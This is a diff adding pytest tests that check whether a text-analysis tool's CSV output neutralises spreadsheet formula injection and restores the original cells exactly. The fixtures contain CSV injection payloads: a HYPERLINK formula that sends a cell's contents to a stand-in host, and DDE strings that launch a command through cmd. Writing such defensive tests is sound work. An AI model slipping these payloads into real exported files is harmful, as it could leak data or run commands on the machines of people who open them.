@@ -4,6 +4,7 @@ full disk or a wrong --reference is the user's stop (exit code 2), not an intern
 
 from __future__ import annotations
 
+import csv
 import errno
 import fcntl
 import hashlib
@@ -18,7 +19,10 @@ from analysis.atomic import LOCK_NAME, folder_lock
 from analysis.cli import check_feature_set, main, tableset
 from analysis.cli import compare as compare_cli
 from analysis.cli.outputs import in_project
+from analysis.compare.results import read_comparison
 from analysis.config import ROOT
+from analysis.formulas import FORMULA_START, neutralise_cells, restore_cells
+from analysis.tables import read_table
 from conftest import run_cli, write_corpus
 
 FAST = ["--groups", "tone", "--n-resamples", "100", "--workers", "1"]
@@ -296,3 +300,64 @@ def test_the_corpus_folder_fixture_is_untouched_by_refusals(tmp_path):
     corpus = write_corpus(tmp_path / "c")
     assert main(["features", str(corpus), "-o", str(tmp_path / "o" / "f.txt")]) == 2
     assert not (tmp_path / "o").exists()
+
+
+# --------------------------------------------------------------------------- 8: formulas
+
+EVIL = {"title": "=HYPERLINK(\"http://x.test/\"&A1,\"open\")", "outlet": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def _cells(path: Path) -> list[tuple[str, str]]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    return [(h, v) for row in rows for h, v in zip(rows[0], row)] + [("header", h)
+                                                                    for h in rows[0]]
+
+
+def test_text_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    corpus = tmp_path / "corpus.csv"
+    pd.DataFrame({
+        "article_id": ["=a1", "a2"], "title": [EVIL["title"], "-Nate Cohn"],
+        "outlet": [EVIL["outlet"], "+Times"], "score": [-0.5, 2.0],
+        "text": ["-2+3+cmd|' /C calc'!A0 officials welcomed the breakthrough. Risks remain.",
+                 "Officials warned of a grave threat. Growth could strengthen ties."]},
+    ).to_csv(corpus, index=False)
+    out = tmp_path / "out" / "features.csv"
+    assert main(["features", str(corpus), "-o", str(out), *FAST]) == 0
+    numbers = 0
+    for table in sorted(out.parent.glob("*.csv")):
+        for column, value in _cells(table):
+            if value[:1] and value[0] in FORMULA_START:  # only numbers may start so
+                float(value)
+                numbers += 1
+    assert numbers  # negative numbers stay numbers ("-0.5", tone scores)
+    raw = out.read_text()
+    assert "'=HYPERLINK" in raw and "'-Nate Cohn" in raw and ",-0.5," in raw
+    features = read_table(out)
+    assert features["title"].tolist() == [EVIL["title"], "-Nate Cohn"]
+    assert features["article_id"].tolist() == ["=a1", "a2"]
+    assert features["score"].tolist() == [-0.5, 2.0]
+    evidence = read_table(out.with_name("evidence.csv"))
+    first = evidence[evidence["sentence"].str.startswith("-2+3")]
+    assert len(first) and set(first["article_id"]) == {"=a1"}
+    for _, e in evidence.iterrows():  # offsets still index the sentence as scored (term: lemma)
+        assert e["sentence"][e["start"]:e["end"]].lower().startswith(e["term"].lower()[:5])
+    # Group names: written neutralised, read back as in features.csv by read_comparison.
+    assert main(["compare", str(out), "--by", "outlet", "--n-resamples", "100",
+                 "--n-permutations", "100", "--reference", EVIL["outlet"]]) == 0
+    assert "'@SUM" in out.with_name("groups.csv").read_text()
+    tables = read_comparison(out.parent, "outlet", out)
+    assert not tables.reason, tables.reason
+    assert set(tables.table("groups")["group"]) == set(features["outlet"])
+    assert set(tables.table("contrasts")["reference"]) == {EVIL["outlet"]}
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1x", "-x", "@a", "\tx", "\rx", "'=x", "''-x",
+                                  "'plain", "-0.5", "+1", "1e-05", "", "plain"])
+def test_neutralising_is_undone_exactly(text):
+    df = pd.DataFrame({"c": [text], "n": [-1.5]})
+    written = neutralise_cells(df)
+    cell = written["c"].iloc[0]
+    assert not (cell[:1] and cell[0] in FORMULA_START) or float(cell) is not None
+    assert restore_cells(written).equals(df)
+    assert written["n"].iloc[0] == -1.5
